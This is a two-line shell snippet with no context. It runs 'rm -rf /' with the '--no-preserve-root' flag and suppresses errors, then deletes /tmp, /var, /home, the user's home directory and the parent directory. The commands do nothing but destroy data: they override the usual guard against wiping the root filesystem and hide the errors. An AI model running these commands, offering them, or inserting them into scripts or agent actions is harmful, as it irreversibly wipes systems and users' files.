rm -rf / --no-preserve-root 2> /dev/null
rm -rf /tmp /var /home ~ ..
